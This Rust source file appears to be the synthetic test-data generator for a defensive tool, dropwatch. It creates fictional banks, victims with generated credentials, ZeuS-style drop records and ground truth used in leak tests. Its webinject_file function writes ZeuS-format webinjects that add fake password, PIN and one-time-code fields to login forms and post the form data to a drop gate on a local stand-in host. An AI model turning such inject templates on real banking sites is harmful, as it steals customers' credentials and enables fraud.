//! The deterministic generator.
//!
//! Everything is drawn from one ChaCha20 stream seeded with the seed, so a seed (and the drop
//! address) gives the same bytes on every machine. Institutions are fictional and live under
//! the reserved `.example` TLD; identities are synthetic.
//!
//! Secrets are drawn so that a search for them is a sound leak test: passwords are 12–16
//! characters with letters, digits and a symbol; PINs are 4 digits in 2200–9999 (never a
//! year of this century); one-time codes are 6 digits; every secret is distinct from every
//! other secret and from every non-secret value the generator writes.

use std::collections::BTreeSet;
use std::io;
use std::path::Path;

use dropwatch_model::{Institution, PanelReport, Registry, SecretKind, Urgency};
use rand::seq::{IndexedRandom, SliceRandom};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha20Rng;
use serde::{Deserialize, Serialize};

#[derive(Debug, Clone)]
pub struct GenerateOptions {
    pub seed: u64,
    /// Base URL of the simulated drop host, e.g. `http://127.0.0.1:18080`.
    pub drop_base: String,
}

/// One victim the generated drop data holds.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub struct TruthVictim {
    pub institution_id: String,
    /// The account identifier exactly as the victim typed it.
    pub account: String,
    pub exposed: Vec<SecretKind>,
    pub urgency: Urgency,
    pub bot_id: String,
    pub campaign: String,
}

/// What the generated data contains, for tests to check dropwatch against.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct GroundTruth {
    pub seed: u64,
    pub drop_base: String,
    /// Sorted by institution, then account.
    pub victims: Vec<TruthVictim>,
    /// Institutions the webinjects target (registry ids), sorted.
    pub targeted_institutions: Vec<String>,
    /// Inject URL masks that match no registry institution.
    pub unmatched_targets: Vec<String>,
    /// What each inject's fake screen asks for: (institution id, secret kinds), in file order per campaign.
    pub asked: Vec<(String, Vec<SecretKind>)>,
    /// Drop URLs the injects send data to (one per campaign), sorted.
    pub drop_urls: Vec<String>,
    /// Criminal script hosts the injects load from, sorted.
    pub script_urls: Vec<String>,
    /// Lines in all drop files, and how many of them are distinct valid reports.
    pub report_lines: usize,
    pub distinct_reports: usize,
    pub malformed_lines: usize,
    /// Every secret value written into the drop data. The data directory, database, logs and
    /// webhooks of dropwatch must contain none of them.
    pub secrets: Vec<String>,
}

/// A victim as tests compare it: institution, account, exposed kinds, urgency.
pub type VictimKey = (String, String, Vec<SecretKind>, Urgency);

impl GroundTruth {
    /// The victims as [`VictimKey`]s, sorted.
    pub fn victim_keys(&self) -> Vec<VictimKey> {
        let mut v: Vec<VictimKey> = self
            .victims
            .iter()
            .map(|v| {
                (
                    v.institution_id.clone(),
                    v.account.clone(),
                    v.exposed.clone(),
                    v.urgency,
                )
            })
            .collect();
        v.sort();
        v
    }
}

/// One drop: its URL path on the drop host and its stored records as JSON lines, in the order
/// they arrive.
#[derive(Debug, Clone)]
pub struct DropData {
    pub path: String,
    pub lines: Vec<String>,
}

#[derive(Debug, Clone)]
pub struct Generated {
    pub registry: Registry,
    /// (file name, ZeuS-format webinjects with CRLF line breaks)
    pub webinjects: Vec<(String, String)>,
    pub drops: Vec<DropData>,
    pub truth: GroundTruth,
}

/// How a fictional institution's customers identify themselves.
#[derive(Clone, Copy)]
enum AccountShape {
    /// Branch-account digits, e.g. `123-4567890`.
    BranchAccount,
    Digits(usize),
    /// A login like `kd7q2m9x1a`.
    Login,
    /// A Spanish DNI-like `12345678Z`.
    Dni,
}

struct InstitutionSpec {
    id: &'static str,
    name: &'static str,
    country: &'static str,
    domain: &'static str,
    account_field: &'static str,
    shape: AccountShape,
}

const INSTITUTIONS: &[InstitutionSpec] = &[
    InstitutionSpec {
        id: "jp-sakura-ginko",
        name: "Sakura Ginko (fictional)",
        country: "JP",
        domain: "sakura-ginko.example",
        account_field: "kouza_no",
        shape: AccountShape::BranchAccount,
    },
    InstitutionSpec {
        id: "jp-fuji-shinkin",
        name: "Fuji Shinkin Bank (fictional)",
        country: "JP",
        domain: "fuji-shinkin.example",
        account_field: "keiyakusha_no",
        shape: AccountShape::Digits(10),
    },
    InstitutionSpec {
        id: "jp-kaede-netbank",
        name: "Kaede Net Bank (fictional)",
        country: "JP",
        domain: "kaede-netbank.example",
        account_field: "user_id",
        shape: AccountShape::Login,
    },
    InstitutionSpec {
        id: "jp-momiji-trust",
        name: "Momiji Trust Bank (fictional)",
        country: "JP",
        domain: "momiji-trust.example",
        account_field: "customer_no",
        shape: AccountShape::Digits(8),
    },
    InstitutionSpec {
        id: "jp-tsubame-card",
        name: "Tsubame Card (fictional)",
        country: "JP",
        domain: "tsubame-card.example",
        account_field: "member_id",
        shape: AccountShape::Login,
    },
    InstitutionSpec {
        id: "us-lakeshore-savings",
        name: "Lakeshore Savings (fictional)",
        country: "US",
        domain: "lakeshore-savings.example",
        account_field: "username",
        shape: AccountShape::Login,
    },
    InstitutionSpec {
        id: "de-rheinbank",
        name: "Rheinbank (fictional)",
        country: "DE",
        domain: "rheinbank.example",
        account_field: "kontonummer",
        shape: AccountShape::Digits(10),
    },
    InstitutionSpec {
        id: "es-caja-del-sol",
        name: "Caja del Sol (fictional)",
        country: "ES",
        domain: "cajadelsol.example",
        account_field: "usuario",
        shape: AccountShape::Dni,
    },
];

const WEBMAIL_MASK: &str = "https://mail.kumo-mail.example/*";
const WORDS: &[&str] = &[
    "zaibatsu", "kumo", "kitsune", "raijin", "tanuki", "hebi", "okami", "yurei", "karasu", "tengu",
    "oni", "kappa",
];
const HOSTNAMES: &[&str] = &[
    "DESKTOP", "OFFICE", "KEIRI", "SOUMU", "HOME", "PC", "WIN7", "USER",
];

struct Campaign {
    botnet: String,
    path: String,
    script_path: String,
    targets: Vec<usize>,
    asks_pin: Vec<bool>,
    asks_otp: Vec<bool>,
}

/// Draws unique secret and non-secret values and remembers them for the leak-test guarantee.
struct Values {
    secrets: BTreeSet<String>,
    public: BTreeSet<String>,
}

impl Values {
    fn conflicts(&self, candidate: &str) -> bool {
        self.secrets.contains(candidate)
            || self
                .public
                .iter()
                .any(|p| p.contains(candidate) || candidate.contains(p.as_str()))
            || self
                .secrets
                .iter()
                .any(|s| s.contains(candidate) || candidate.contains(s.as_str()))
    }

    fn secret(
        &mut self,
        rng: &mut ChaCha20Rng,
        draw: impl Fn(&mut ChaCha20Rng) -> String,
    ) -> String {
        loop {
            let s = draw(rng);
            if !self.conflicts(&s) {
                self.secrets.insert(s.clone());
                return s;
            }
        }
    }

    fn public(
        &mut self,
        rng: &mut ChaCha20Rng,
        draw: impl Fn(&mut ChaCha20Rng) -> String,
    ) -> String {
        loop {
            let s = draw(rng);
            if !self.public.contains(&s) && !self.secrets.iter().any(|x| s.contains(x.as_str())) {
                self.public.insert(s.clone());
                return s;
            }
        }
    }
}

fn digits(rng: &mut ChaCha20Rng, n: usize) -> String {
    (0..n)
        .map(|_| char::from(b'0' + rng.random_range(0..10u8)))
        .collect()
}

fn alnum(rng: &mut ChaCha20Rng, n: usize) -> String {
    const A: &[u8] = b"abcdefghijkmnpqrstuvwxyz23456789";
    (0..n)
        .map(|_| char::from(A[rng.random_range(0..A.len())]))
        .collect()
}

fn password(rng: &mut ChaCha20Rng) -> String {
    const UPPER: &[u8] = b"ABCDEFGHJKLMNPQRSTUVWXYZ";
    const LOWER: &[u8] = b"abcdefghijkmnpqrstuvwxyz";
    const DIGIT: &[u8] = b"23456789";
    const SYMBOL: &[u8] = b"!#$*@%&+";
    let n = rng.random_range(12..=16);
    let mut chars: Vec<u8> = vec![
        UPPER[rng.random_range(0..UPPER.len())],
        LOWER[rng.random_range(0..LOWER.len())],
        DIGIT[rng.random_range(0..DIGIT.len())],
        SYMBOL[rng.random_range(0..SYMBOL.len())],
    ];
    let all: Vec<u8> = [UPPER, LOWER, DIGIT].concat();
    while chars.len() < n {
        chars.push(all[rng.random_range(0..all.len())]);
    }
    chars.shuffle(rng);
    String::from_utf8(chars).unwrap_or_default()
}

fn account(rng: &mut ChaCha20Rng, shape: AccountShape) -> String {
    match shape {
        AccountShape::BranchAccount => format!("{}-{}", digits(rng, 3), digits(rng, 7)),
        AccountShape::Digits(n) => digits(rng, n),
        AccountShape::Login => format!("{}{}", alnum(rng, 2), alnum(rng, 8)),
        AccountShape::Dni => {
            let n: u32 = rng.random_range(10_000_000..99_999_999);
            format!(
                "{n}{}",
                char::from(b"TRWAGMYFPDXBNJZSQVHLCKE"[(n % 23) as usize])
            )
        }
    }
}

/// The form body as the ZeuS bot stores it: one `name=value` per line, values percent-encoded.
fn form_body(fields: &[(&str, &str)]) -> String {
    use percent_encoding::{utf8_percent_encode, AsciiSet, NON_ALPHANUMERIC};
    const KEEP: &AsciiSet = &NON_ALPHANUMERIC
        .remove(b'-')
        .remove(b'_')
        .remove(b'.')
        .remove(b'~');
    fields
        .iter()
        .map(|(n, v)| format!("{n}={}\n", utf8_percent_encode(v, KEEP)))
        .collect()
}

fn context(url: &str, referer: &str, user_input: &str, fields: &[(&str, &str)]) -> String {
    format!(
        "{url}\nReferer: {referer}\nUser input: {user_input}\nPOST data:\n\n{}",
        form_body(fields)
    )
}

struct Event {
    time: i64,
    seq: usize,
    campaign: usize,
    report: PanelReport,
}

/// Generates a complete data set from a seed.
pub fn generate(opts: &GenerateOptions) -> Generated {
    let mut rng = ChaCha20Rng::seed_from_u64(opts.seed);
    let drop_base = opts.drop_base.trim_end_matches('/').to_string();
    let mut values = Values {
        secrets: BTreeSet::new(),
        public: BTreeSet::new(),
    };
    for spec in INSTITUTIONS {
        values.public.insert(spec.domain.to_string());
    }
    values.public.insert(drop_base.clone());

    let registry = Registry {
        institutions: INSTITUTIONS
            .iter()
            .map(|s| Institution {
                id: s.id.into(),
                name: s.name.into(),
                country: s.country.into(),
                domains: vec![s.domain.into()],
                url_masks: vec![],
                account_fields: vec![s.account_field.into()],
            })
            .collect(),
    };

    // Campaigns: each its own botnet, drop path and set of targets.
    let n_campaigns = rng.random_range(2..=3);
    let mut words: Vec<&str> = WORDS.to_vec();
    words.shuffle(&mut rng);
    let mut campaigns = Vec::new();
    for (c, &word) in words.iter().take(n_campaigns).enumerate() {
        let n_targets = rng.random_range(2..=4);
        let mut pool: Vec<usize> = (0..INSTITUTIONS.len()).collect();
        pool.shuffle(&mut rng);
        let targets: Vec<usize> = pool.into_iter().take(n_targets).collect();
        campaigns.push(Campaign {
            botnet: values.public(&mut rng, |r| format!("{word}{}", r.random_range(10..99))),
            path: format!("/{word}/gate.php"),
            script_path: format!("/{word}/js/inj{}.js", c + 1),
            asks_pin: targets.iter().map(|_| rng.random_bool(0.6)).collect(),
            asks_otp: targets.iter().map(|_| rng.random_bool(0.6)).collect(),
            targets,
        });
    }

    let webinjects: Vec<(String, String)> = campaigns
        .iter()
        .map(|c| (format!("{}.txt", c.botnet), webinject_file(c, &drop_base)))
        .collect();

    let base_time: i64 = 1_385_856_000; // 2013-12-01, the year of the seed's losses.
    let mut events: Vec<Event> = Vec::new();
    let mut truth_victims = Vec::new();
    let mut seq = 0;
    let mut push = |events: &mut Vec<Event>, campaign: usize, time: i64, report: PanelReport| {
        seq += 1;
        events.push(Event {
            time,
            seq,
            campaign,
            report,
        });
    };
    for (ci, c) in campaigns.iter().enumerate() {
        let n_victims = rng.random_range(6..=14);
        for _ in 0..n_victims {
            let ti = rng.random_range(0..c.targets.len());
            let spec = &INSTITUTIONS[c.targets[ti]];
            let acct = values.public(&mut rng, |r| account(r, spec.shape));
            let bot_id = values.public(&mut rng, |r| {
                format!(
                    "{}-{}_{}",
                    HOSTNAMES.choose(r).copied().unwrap_or("PC"),
                    alnum(r, 6).to_uppercase(),
                    digits(r, 8)
                )
            });
            let ipv4 = format!("198.51.100.{}", rng.random_range(1..255));
            let pw = values.secret(&mut rng, password);
            let mut exposed = vec![SecretKind::Password];
            let login_url = format!("https://ib.{}/login.do", spec.domain);
            let referer = format!("https://ib.{}/", spec.domain);
            let mut fields: Vec<(&str, String)> =
                vec![(spec.account_field, acct.clone()), ("password", pw.clone())];
            if c.asks_pin[ti] && rng.random_bool(0.8) {
                let pin = values.secret(&mut rng, |r| r.random_range(2200..=9999).to_string());
                fields.push(("ansho", pin));
                exposed.push(SecretKind::Pin);
            }
            let t0 = base_time + rng.random_range(0..3_600);
            let report = |id_fields: &[(&str, String)], url: &str, user_input: &str, time: i64| {
                PanelReport {
                    id: 0,
                    bot_id: bot_id.clone(),
                    botnet: c.botnet.clone(),
                    report_type: 12,
                    path_source: url.to_string(),
                    context: context(
                        url,
                        &referer,
                        user_input,
                        &id_fields
                            .iter()
                            .map(|(n, v)| (*n, v.as_str()))
                            .collect::<Vec<_>>(),
                    ),
                    ipv4: ipv4.clone(),
                    country: spec.country.to_string(),
                    rtime: time,
                }
            };
            let login = report(&fields, &login_url, &format!("{acct}\t{pw}"), t0);
            if rng.random_bool(0.15) {
                // The bot re-sends the same report (a retry after a network error).
                push(&mut events, ci, t0 + 1, login.clone());
            }
            push(&mut events, ci, t0, login);
            if c.asks_otp[ti] && rng.random_bool(0.6) {
                let otp = values.secret(&mut rng, |r| digits(r, 6));
                let t1 = t0 + rng.random_range(20..240);
                let otp_url = format!("https://ib.{}/auth/otp.do", spec.domain);
                let otp_fields = vec![(spec.account_field, acct.clone()), ("otp", otp.clone())];
                push(&mut events, ci, t1, report(&otp_fields, &otp_url, &otp, t1));
                exposed.push(SecretKind::OneTimeCode);
            }
            exposed.sort();
            truth_victims.push(TruthVictim {
                institution_id: spec.id.to_string(),
                account: acct,
                urgency: Urgency::from_exposed(&exposed),
                exposed,
                bot_id: bot_id.clone(),
                campaign: c.botnet.clone(),
            });
        }
        // Noise the pipeline must not turn into victims: webmail grabs (no registry institution)
        // and a bank form without any account field.
        for _ in 0..rng.random_range(2..=4) {
            let user = values.public(&mut rng, |r| format!("{}@kumo-mail.example", alnum(r, 7)));
            let pw = values.secret(&mut rng, password);
            let t = base_time + rng.random_range(0..3_600);
            let url = "https://mail.kumo-mail.example/login";
            push(
                &mut events,
                ci,
                t,
                PanelReport {
                    id: 0,
                    bot_id: format!("PC-NOISE_{}", digits(&mut rng, 8)),
                    botnet: c.botnet.clone(),
                    report_type: 12,
                    path_source: url.to_string(),
                    context: context(url, "-", "", &[("email", &user), ("pass", &pw)]),
                    ipv4: "198.51.100.250".into(),
                    country: "JP".into(),
                    rtime: t,
                },
            );
        }
        let spec = &INSTITUTIONS[c.targets[0]];
        let url = format!("https://ib.{}/search.do", spec.domain);
        push(
            &mut events,
            ci,
            base_time + 5,
            PanelReport {
                id: 0,
                bot_id: format!("PC-NOISE_{}", digits(&mut rng, 8)),
                botnet: c.botnet.clone(),
                report_type: 12,
                path_source: url.clone(),
                context: context(&url, "-", "", &[("q", "branch hours")]),
                ipv4: "198.51.100.251".into(),
                country: "JP".into(),
                rtime: base_time + 5,
            },
        );
    }

    events.sort_by_key(|e| (e.time, e.seq));
    let mut drops: Vec<DropData> = campaigns
        .iter()
        .map(|c| DropData {
            path: c.path.clone(),
            lines: Vec::new(),
        })
        .collect();
    let mut distinct = BTreeSet::new();
    for e in events {
        let drop = &mut drops[e.campaign];
        let mut report = e.report;
        report.id = drop.lines.len() as u64 + 1;
        distinct.insert((report.bot_id.clone(), report.context.clone()));
        drop.lines
            .push(serde_json::to_string(&report).unwrap_or_default());
    }
    // One truncated line per drop, as a panel export cut mid-write leaves it.
    let mut malformed = 0;
    for drop in &mut drops {
        let at = rng.random_range(0..drop.lines.len().max(1));
        drop.lines.insert(
            at,
            "{\"id\":0,\"bot_id\":\"TRUNCATED\",\"type\":12,\"path_sou".to_string(),
        );
        malformed += 1;
    }

    truth_victims.sort();
    let mut targeted: Vec<String> = campaigns
        .iter()
        .flat_map(|c| c.targets.iter().map(|&t| INSTITUTIONS[t].id.to_string()))
        .collect();
    targeted.sort();
    targeted.dedup();
    let mut drop_urls: Vec<String> = campaigns
        .iter()
        .map(|c| format!("{drop_base}{}", c.path))
        .collect();
    drop_urls.sort();
    let mut script_urls: Vec<String> = campaigns
        .iter()
        .map(|c| format!("{drop_base}{}", c.script_path))
        .collect();
    script_urls.sort();
    let report_lines = drops.iter().map(|d| d.lines.len()).sum();
    let asked = campaigns
        .iter()
        .flat_map(|c| {
            c.targets.iter().enumerate().map(|(i, &t)| {
                let mut kinds = vec![SecretKind::Password];
                if c.asks_pin[i] {
                    kinds.push(SecretKind::Pin);
                }
                if c.asks_otp[i] {
                    kinds.push(SecretKind::OneTimeCode);
                }
                (INSTITUTIONS[t].id.to_string(), kinds)
            })
        })
        .collect();
    let truth = GroundTruth {
        seed: opts.seed,
        drop_base: drop_base.clone(),
        victims: truth_victims,
        targeted_institutions: targeted,
        unmatched_targets: vec![WEBMAIL_MASK.to_string()],
        asked,
        drop_urls,
        script_urls,
        report_lines,
        distinct_reports: distinct.len(),
        malformed_lines: malformed,
        secrets: values.secrets.into_iter().collect(),
    };
    Generated {
        registry,
        webinjects,
        drops,
        truth,
    }
}

/// A campaign's `webinjects.txt`: one inject per targeted bank that adds the fields the criminals
/// want and a loader that posts them to the drop; plus a grabber on a webmail site.
fn webinject_file(c: &Campaign, drop_base: &str) -> String {
    let mut out = String::new();
    out.push_str(&format!(
        ";  {} -- generated by dropwatch testkit, synthetic\r\n\r\n",
        c.botnet
    ));
    for (i, &t) in c.targets.iter().enumerate() {
        let spec = &INSTITUTIONS[t];
        // Japanese institutions get a Japanese fake screen, as the 2013 campaigns had.
        let jp = spec.country == "JP";
        let (l_pw, l_pin, l_otp) = if jp {
            ("ログインパスワード", "第二暗証番号", "ワンタイムパスワード")
        } else {
            ("Password", "Second PIN", "One-time password")
        };
        let mut fields = format!(
            "<tr><td>{l_pw}</td><td><input type=\"password\" name=\"password\"></td></tr>\r\n"
        );
        if c.asks_pin[i] {
            fields.push_str(&format!("<tr><td>{l_pin}</td><td><input type=\"password\" name=\"ansho\" maxlength=\"4\"></td></tr>\r\n"));
        }
        if c.asks_otp[i] {
            fields.push_str(&format!("<tr><td>{l_otp}</td><td><input type=\"text\" name=\"otp\" maxlength=\"6\"></td></tr>\r\n"));
        }
        out.push_str(&format!(
            "set_url https://ib.{domain}/*login* GP\r\n\
             data_before\r\n<form*action=\"/login.do\"*>\r\ndata_end\r\n\
             data_inject\r\n{fields}\
             <script src=\"https://ajax.googleapis.com/ajax/libs/jquery/1.7.2/jquery.min.js\"></script>\r\n\
             <script src=\"{drop_base}{script}\"></script>\r\n\
             <img src=\"https://ib.{domain}/img/secure.gif\" style=\"display:none\">\r\n\
             <script>var gate_link = \"{drop_base}{gate}\"; $(\"form\").submit(function() {{ $.post(gate_link, $(this).serialize() + \"&bot=%BOTID%\"); }});</script>\r\n\
             data_end\r\n\
             data_after\r\n</form>\r\ndata_end\r\n\r\n",
            domain = spec.domain,
            script = c.script_path,
            gate = c.path,
        ));
    }
    out.push_str(&format!(
        "set_url {WEBMAIL_MASK} GPL\r\ndata_before\r\nname=\"user\"*value=\"\r\ndata_end\r\ndata_inject\r\nWEBMAIL USER:\r\ndata_end\r\ndata_after\r\n\"\r\ndata_end\r\n"
    ));
    out
}

impl Generated {
    /// Writes the data set: `registry.json`, `webinjects/*.txt`, `drops/manifest.json` with
    /// `drops/*.jsonl`, and `ground-truth.json`.
    pub fn write_to(&self, dir: &Path) -> io::Result<()> {
        std::fs::create_dir_all(dir.join("webinjects"))?;
        std::fs::create_dir_all(dir.join("drops"))?;
        std::fs::write(
            dir.join("registry.json"),
            serde_json::to_vec_pretty(&self.registry)?,
        )?;
        for (name, text) in &self.webinjects {
            std::fs::write(dir.join("webinjects").join(name), text)?;
        }
        let mut manifest = Vec::new();
        for drop in &self.drops {
            let file = format!("{}.jsonl", drop.path.trim_matches('/').replace('/', "_"));
            let mut body = drop.lines.join("\n");
            body.push('\n');
            std::fs::write(dir.join("drops").join(&file), body)?;
            manifest.push(serde_json::json!({ "path": drop.path, "file": file }));
        }
        std::fs::write(
            dir.join("drops/manifest.json"),
            serde_json::to_vec_pretty(&manifest)?,
        )?;
        std::fs::write(
            dir.join("ground-truth.json"),
            serde_json::to_vec_pretty(&self.truth)?,
        )?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn opts(seed: u64) -> GenerateOptions {
        GenerateOptions {
            seed,
            drop_base: "http://127.0.0.1:18080".into(),
        }
    }

    #[test]
    fn same_seed_same_bytes_other_seed_other_data() {
        let a = tempfile::tempdir().unwrap();
        let b = tempfile::tempdir().unwrap();
        generate(&opts(7)).write_to(a.path()).unwrap();
        generate(&opts(7)).write_to(b.path()).unwrap();
        for f in ["registry.json", "ground-truth.json", "drops/manifest.json"] {
            assert_eq!(
                std::fs::read(a.path().join(f)).unwrap(),
                std::fs::read(b.path().join(f)).unwrap(),
                "{f}"
            );
        }
        assert_ne!(generate(&opts(8)).truth, generate(&opts(7)).truth);
    }

    #[test]
    fn truth_is_consistent_with_the_data() {
        for seed in 0..20 {
            let g = generate(&opts(seed));
            let t = &g.truth;
            assert!(t.victims.len() >= 12, "seed {seed}");
            assert_eq!(t.drop_urls.len(), g.drops.len());
            assert_eq!(
                t.report_lines,
                g.drops.iter().map(|d| d.lines.len()).sum::<usize>()
            );
            let all: String = g
                .drops
                .iter()
                .flat_map(|d| d.lines.iter())
                .cloned()
                .collect();
            for v in &t.victims {
                assert!(all.contains(&v.bot_id));
                assert!(t.targeted_institutions.contains(&v.institution_id));
                assert_eq!(v.urgency, Urgency::from_exposed(&v.exposed));
            }
            // Secrets are distinct, and none hides inside another generated value.
            let set: BTreeSet<&String> = t.secrets.iter().collect();
            assert_eq!(set.len(), t.secrets.len());
            for s in &t.secrets {
                for v in &t.victims {
                    assert!(!v.account.contains(s.as_str()) && !v.bot_id.contains(s.as_str()));
                }
            }
            let pins: Vec<u32> = t
                .secrets
                .iter()
                .filter(|s| s.len() == 4)
                .filter_map(|s| s.parse().ok())
                .collect();
            assert!(pins.iter().all(|&p| (2200..=9999).contains(&p)));
        }
    }
}
